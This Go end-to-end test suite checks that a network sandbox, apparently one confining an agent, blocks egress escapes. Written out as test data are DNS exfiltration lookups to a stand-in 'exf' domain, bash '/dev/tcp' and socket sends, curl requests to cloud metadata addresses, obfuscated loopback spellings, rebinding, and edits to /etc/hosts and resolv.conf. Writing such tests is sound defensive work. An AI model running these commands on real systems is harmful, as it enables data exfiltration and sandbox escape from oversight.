package e2e

import (
	"fmt"
	"strings"
	"testing"
)

// publicAddr is an address that a policy may allow; here it is the sink's.
const publicAddr = "93.184.216.34"

// worldNames are the names of these tests and what they resolve to. All of them
// are allowed by the policy: what must not be dialled is decided by address.
var worldNames = map[string]record{
	"int.test":       {addrs: []string{"10.1.2.3"}},
	"int6.test":      {addrs: []string{"fd12::3"}},
	"cgnat.test":     {addrs: []string{"100.64.1.1"}},
	"llm.corp.test":  {addrs: []string{"127.0.0.1"}},
	"loop6.test":     {addrs: []string{"::1"}},
	"zero.test":      {addrs: []string{"0.0.0.0"}},
	"zero6.test":     {addrs: []string{"::"}},
	"local.test":     {addrs: []string{"127.9.9.9"}},
	"meta.test":      {addrs: []string{"169.254.169.254"}},
	"meta6.test":     {addrs: []string{"fd00:ec2::254"}},
	"ecs.test":       {addrs: []string{"169.254.170.2"}},
	"ali.test":       {addrs: []string{"100.100.100.200"}},
	"azure.test":     {addrs: []string{"168.63.129.16"}},
	"mapped.test":    {addrs: []string{"::ffff:169.254.169.254"}},
	"compat.test":    {addrs: []string{"::127.0.0.1"}},
	"nat64.test":     {addrs: []string{"64:ff9b::a9fe:a9fe"}},
	"sixtofour.test": {addrs: []string{"2002:7f00:1::"}},
	"teredo.test":    {addrs: []string{"2001:0:7f00:1::5"}},
	"mixed.test":     {addrs: []string{publicAddr, "10.1.2.3"}},
	"mixed2.test":    {addrs: []string{"10.1.2.3", publicAddr}},
	"mixed6.test":    {addrs: []string{publicAddr, "::1"}},
	"cname.test":     {cname: "int.test", addrs: []string{"10.1.2.3"}},
	"cname2.test":    {cname: "metadata.google.internal", addrs: []string{"169.254.169.254"}},
	"rebind.test":    {}, // see worldAnswer
}

// worldAnswer: names that no test lists are public, so that one that is asked
// for by mistake can be reached, and is seen.
func worldAnswer(name string, nth int) record {
	if r, ok := worldNames[name]; ok && name != "rebind.test" {
		return r
	}
	if name == "rebind.test" && nth%2 == 0 { // TTL 0: good when it is checked, bad when it is dialled
		return record{addrs: []string{"169.254.169.254"}}
	}
	return record{addrs: []string{publicAddr}}
}

// newWorldArena is a sandbox for attacks by name and address: names are really
// resolved, and every address there is leads to the sink.
func newWorldArena(t *testing.T) (*arena, *zone) {
	t.Helper()
	s, z := worldSink(t), newZone(t, worldAnswer)
	policy := policyHead() + "network_policies:\n  ok:\n    endpoints:\n      - {host: ok.test, ports: [80, 443], protocol: rest, access: full}\n    binaries: any\n" +
		"  star:\n    endpoints:\n      - {host: \"*.star.test\", ports: [80, 443], protocol: rest, access: full}\n    binaries: any\n" +
		"  addr:\n    endpoints:\n      - {host: 93.184.216.35, ports: [443]}\n      - {host: 93.184.216.36, ports: [80, 443], protocol: rest, access: full}\n    binaries: any\n  named:\n    endpoints:\n"
	for name := range worldNames {
		policy += "      - {host: " + name + ", ports: [80, 443], protocol: rest, access: full}\n"
	}
	b := box{policy: policy + "    binaries: any\n", flags: []string{"--trust-ca", caFile(t)}}
	return &arena{live: b.start(t), s: s, box: b}, z
}

// toHost makes requests to a host on every way in.
func toHost(hosts ...string) (all []attack) {
	for _, h := range hosts {
		all = append(all, everyWay("curl -sS -g http://"+h+"/MARK")...)
		all = append(all, script("curl -m 10 -sSk -g https://"+h+"/MARK"))
	}
	return all
}

// TestEscapeDNS: no name goes out, whatever server is asked, and no answer of a
// name server opens an address.
func TestEscapeDNS(t *testing.T) {
	inWorld(t, func(t *testing.T) {
		a, z := newWorldArena(t)
		never := func(list []attack) []attack { // the name itself must not be asked for
			for i := range list {
				do := list[i].do
				list[i].do = func(a *arena, mark string) string {
					got := do(a, mark)
					if z.wasAsked(mark) {
						a.t.Errorf("%s: the name was asked for outside", list[i].what)
					}
					return got
				}
			}
			return list
		}
		lookups := "getent hosts MARK.ns.exf.test; getent ahosts MARK.ns.exf.test; ping -c1 -W1 MARK.ns.exf.test; python3 -c 'import socket; socket.getaddrinfo(\"MARK.ns.exf.test\", 80)'; true"
		a.run(t, "DNS-01", attacks(never(quiet(scripts(lookups, "env -i /bin/sh -c '"+strings.ReplaceAll(lookups, "'", `'\''`)+"'"))),
			never(everyWay("curl -sS http://MARK.ns.exf.test/", "curl -sS https://MARK.ns.exf.test/", "curl -sS http://MARK.ok.test/")))...)

		ask := func(id string, servers ...string) {
			a.escape(t, a.s, id, a.works, func(x *line) {
				// Whatever server is asked, Creel answers: addresses that stand for the name, and nothing else.
				for _, server := range servers {
					for _, way := range []string{transparent, cleared} {
						x.way(way)
						mark := x.mark()
						got := x.receive(x.send(order{Argv: []string{probePath(), "probe", "dns", server, mark + ".no.test"}, Clear: way == cleared}))
						text := string(got.Stdout) + string(got.Stderr)
						for _, want := range []string{"A: ok", "AAAA: ok", "TXT: empty", "NULL: empty", "HTTPS: empty", "SVCB: empty", "CNAME: empty", "MX: empty", "NS: empty", "SRV: empty", "ANY: empty"} {
							if !strings.Contains(text, want) {
								x.Errorf("server %q: no %q in %s", server, want, text)
							}
						}
						if z.wasAsked(mark) || x.sink.holds(mark) || x.sink.packets() > 0 {
							x.Errorf("server %q: the name went out", server)
						}
					}
				}
			})
		}
		ask("DNS-03", "", "8.8.8.8", "1.1.1.1", "9.9.9.9", "127.0.0.1", "127.0.0.53", "169.254.169.254", publicAddr)
		ask("DNS-06", "tcp:8.8.4.4", "[2001:4860:4860::8888]", "tcp:[2001:4860:4860::8888]", "tcp:127.0.0.53", "[::1]", "tcp:169.254.169.253")
		a.escape(t, a.s, "DNS-05", a.works, func(x *line) {
			// What a tunnel needs: records that carry text back, long names out, and no end of them.
			for _, way := range []string{transparent, cleared} {
				x.way(way)
				seq := len(x.events())
				got := x.receive(x.send(order{Argv: []string{probePath(), "probe", "tunnel", "8.8.8.8", "ns.exf.test"}, Clear: way == cleared}))
				if got.Code != 0 {
					x.Errorf("%s%s", got.Stdout, got.Stderr)
				}
				if z.wasAsked("ns.exf.test") || x.sink.packets() > 0 {
					x.Error("a query went out")
				}
				if n := len(x.events()) - seq; n > 100 {
					x.Errorf("%d events of one flood", n)
				}
			}
		})
		a.run(t, "DNS-04", attacks(everyWay("curl -sS 'https://dns.google/resolve?name=MARK'", "curl -sS 'http://dns.google/resolve?name=MARK'", "curl -sS 'https://cloudflare-dns.com/dns-query?name=MARK'", "curl -sSk https://8.8.8.8/MARK",
			"curl -sS -H 'Accept: application/dns-message' --data-binary MARK https://mozilla.cloudflare-dns.com/dns-query"),
			scripts("bash -c 'exec 3<>/dev/tcp/8.8.8.8/853; echo MARK >&3; cat <&3'", "env -i /bin/bash -c 'exec 3<>/dev/tcp/dns.google/853; echo MARK >&3; cat <&3'",
				`python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 853)); s.send(b"MARK")'`))...)
		a.escape(t, a.s, "DNS-07", a.works, func(x *line) {
			x.way(inside)
			for _, c := range []string{"echo 169.254.169.254 ok.test >> /etc/hosts", "echo nameserver 8.8.8.8 > /etc/resolv.conf", "rm /etc/resolv.conf", "mv /etc/hosts /etc/h", "ln -sf /tmp/x /etc/resolv.conf", "echo x > /etc/nsswitch.conf"} {
				if got := x.do("sh", "-c", c); got.Code == 0 {
					x.Errorf("%s: succeeded", c)
				}
			}
			// What the agent resolves by itself changes where nothing is dialled: the name decides, outside.
			for i, c := range []string{"echo 'ok ns.exf.test' > /tmp/aliases; HOSTALIASES=/tmp/aliases curl -sS http://ok/MARK", "curl -sS --resolve ok.test:80:169.254.169.254 http://ok.test/MARK",
				"curl -sS --connect-to ok.test:80:169.254.169.254:80 http://ok.test/MARK", "LOCALDOMAIN=ns.exf.test RES_OPTIONS=ndots:5 curl -sS http://nothing/MARK", "curl -sS -H 'Host: ok.test' http://10.1.2.3/MARK"} {
				x.try([]string{transparent, cleared}[i%2], c, func(mark string) string { return x.sh(strings.ReplaceAll(c, "MARK", mark)) })
			}
		})
		a.run(t, "DNS-09", toHost("mixed.test", "mixed2.test", "mixed6.test")...)
		a.run(t, "DNS-10", attacks(toHost("cname.test", "cname2.test", "kubernetes.default.svc", "metadata", "ok"))...)
		a.escape(t, a.s, "DNS-08", a.works, func(x *line) {
			// The first answer is good and the second is bad, and so on: what is
			// dialled is what was checked, so nothing ever arrives at the bad one.
			for _, c := range everyWay("curl -sS http://rebind.test/REBIND", "curl -sSk https://rebind.test/REBIND", "for i in 1 2 3; do curl -sS http://rebind.test/REBIND; done") {
				x.way(c.way)
				c.do(a, "")
			}
			arrived := 0
			for _, r := range x.sink.requests() {
				if strings.HasPrefix(r.URI, "/REBIND") {
					arrived++
					if !strings.HasPrefix(r.At, publicAddr+":") {
						x.Errorf("a request arrived at %s", r.At)
					}
				}
			}
			if arrived == 0 {
				x.Error("none of them arrived at the good address: this shows nothing")
			}
			x.denied(0)
		})
	})
}

// TestEscapeAddresses: IP.
func TestEscapeAddresses(t *testing.T) {
	inWorld(t, func(t *testing.T) {
		a, _ := newWorldArena(t)
		// Spellings of loopback and metadata that a resolver folds. Those that the
		// C library folds to the sandbox's own loopback end there.
		var legacy []attack
		for _, h := range []string{"2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0x7f.1", "017700000001", "0251.254.169.254", "2852039166", "0xA9FEA9FE", "025177524776", "10.1", "0x0a010203"} {
			legacy = append(legacy, quiet(scripts("curl -sS -m 5 http://"+h+"/MARK", "env -i /usr/bin/curl -sS -m 5 http://"+h+":8080/MARK"))...)
			legacy = append(legacy, attack{what: "CONNECT " + h, do: func(a *arena, mark string) string {
				return a.wire(wire{Way: connect, Head: "CONNECT " + h + ":80 HTTP/1.1\r\nHost: " + h + ":80\r\n\r\n", Payload: []byte("GET /" + mark + " HTTP/1.1\r\nHost: x\r\n\r\n")})
			}}, attack{what: "absolute " + h, do: func(a *arena, mark string) string {
				return a.wire(wire{Way: absolute, Payload: []byte("GET http://" + h + "/" + mark + " HTTP/1.1\r\nHost: " + h + "\r\n\r\n")})
			}})
		}
		a.run(t, "IP-01", legacy...)
		var wrapped []attack
		for _, h := range []string{"[::ffff:127.0.0.1]", "[::ffff:169.254.169.254]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[64:ff9b::a9fe:a9fe]", "[2002:7f00:1::]", "[2002:a9fe:a9fe::1]",
			"[2001:0:7f00:1::5]", "[::1]", "[::]", "[fe80::a9fe:a9fe]", "[::ffff:0:7f00:1]"} {
			wrapped = append(wrapped, attack{what: "CONNECT " + h, do: func(a *arena, mark string) string {
				return a.wire(wire{Way: connect, Head: "CONNECT " + h + ":80 HTTP/1.1\r\nHost: " + h + ":80\r\n\r\n", Payload: []byte("GET /" + mark + " HTTP/1.1\r\nHost: x\r\n\r\n")})
			}}, attack{what: "absolute " + h, do: func(a *arena, mark string) string {
				return a.wire(wire{Way: absolute, Payload: []byte("GET http://" + h + "/" + mark + " HTTP/1.1\r\nHost: " + h + "\r\n\r\n")})
			}})
			wrapped = append(wrapped, quiet(scripts("curl -sS -g -m 5 http://"+h+"/MARK", "env -i /usr/bin/curl -sS -g -m 5 http://"+h+"/MARK"))...)
		}
		a.run(t, "IP-02", attacks(wrapped, toHost("mapped.test", "compat.test", "nat64.test", "sixtofour.test", "teredo.test"))...)
		a.run(t, "IP-03", toHost("169.254.169.254", "[fd00:ec2::254]", "169.254.170.2", "100.100.100.200", "168.63.129.16", "metadata.google.internal", "metadata.google.internal.",
			"meta.test", "meta6.test", "ecs.test", "ali.test", "azure.test")...)
		a.run(t, "IP-04", attacks(quiet(scripts("curl -sS http://127.0.0.1/MARK", "curl -sS http://localhost/MARK", "curl -sS http://x.localhost/MARK", "curl -sS http://0.0.0.0/MARK",
			"curl -sS -g http://[::1]/MARK", "curl -sS http://localhost./MARK", "env -i /usr/bin/curl -sS http://127.0.0.53/MARK")),
			toHost("zero.test", "zero6.test", "local.test"), scripts("curl -sS -x http://127.0.0.1:3128 http://localhost/MARK", "curl -sS -x http://127.0.0.1:3128 http://127.0.0.1/MARK",
				"curl -sS -p -x http://127.0.0.1:3128 http://x.localhost/MARK", "curl -sS -p -x http://127.0.0.1:3128 http://0.0.0.0/MARK"))...)
		a.run(t, "IP-07", toHost("llm.corp.test", "loop6.test", "int.test", "int6.test", "cgnat.test")...)
		// A fetcher of the agent's own, of any kind, has no other network.
		a.run(t, "IP-09", attacks(toHost("10.0.0.1", "192.0.2.1", publicAddr), scripts(
			`python3 -c 'import urllib.request as u; u.urlopen("http://no.test/MARK")'`, `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("no.test:80") or die; print $s "GET /MARK HTTP/1.0\r\n\r\n"; print <$s>'`,
			"env -i /usr/bin/python3 -c 'import socket; s = socket.create_connection((\"192.0.2.7\", 22)); s.send(b\"MARK\"); s.recv(9)'",
			"wget -q -O- http://no.test/MARK || curl -sS http://no.test/MARK", "openssl s_client -connect no.test:443 -servername MARK.no.test </dev/null"))...)
		// Names in other dress than the connection's address: NAM-11. The name that
		// is claimed must be the one that the connection is for.
		claim := func(what string, w wire) attack {
			return attack{what: what, do: func(a *arena, mark string) string {
				w := w
				host := w.SNI
				w.Payload = []byte("GET /" + mark + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
				return a.wire(w)
			}}
		}
		var claims []attack
		for _, way := range []string{transparent, connect, cleared} {
			for _, name := range []string{"no.test", "ok.test"} {
				claims = append(claims, claim("SNI "+name+" to an address that is not allowed, "+way, wire{Way: way, Host: publicAddr, SNI: name, TLS: true}),
					claim("SNI "+name+" to an address that is relayed, "+way, wire{Way: way, Host: "93.184.216.35", SNI: name, TLS: true}),
					claim("Host "+name+" to an address that is inspected, "+way, wire{Way: way, Host: "93.184.216.36", SNI: name}))
			}
		}
		claims = append(claims, absolutes("http://93.184.216.36/MARK")...) // with Host: ok.test
		a.run(t, "NAM-11", claims...)
	})
}

// TestEscapeDefaults: what nothing was said about is denied.
func TestEscapeDefaults(t *testing.T) {
	inWorld(t, func(t *testing.T) {
		s := worldSink(t)
		newZone(t, worldAnswer)
		for i, policy := range []string{"network_policies: {}\n", "", "network_policies:\n  none:\n    endpoints: []\n    binaries: any\n"} {
			l := box{policy: policyHead() + policy, flags: []string{"--trust-ca", caFile(t)}}
			if i == 2 { // an empty list is said to be wrong, or denies
				if r := l.run(t, "true"); r.code != 0 {
					r.want(t, 2).err(t, "endpoints")
					continue
				}
			}
			a := &arena{live: l.start(t), s: s}
			a.escape(t, s, fmt.Sprintf("NAM-04-%d", i), func(x *line) string {
				mark := len(x.events())
				write(t, a.policy, policyHead()+"network_policies:\n  ok:\n    endpoints:\n      - {host: ok.test, ports: [443], protocol: rest, access: full}\n    binaries: any\n")
				x.event(mark, "the policy is loaded", func(e event) bool { return e.Kind == policyLoaded })
				return a.works(x)
			}, func(x *line) {
				for _, at := range everyWay("curl -sS http://ok.test/MARK", "curl -sSk https://ok.test/MARK", "curl -sS http://"+publicAddr+"/MARK") {
					x.try(at.way, at.what, func(mark string) string { return at.do(a, mark) })
				}
			})
			a.end()
		}
	})
}
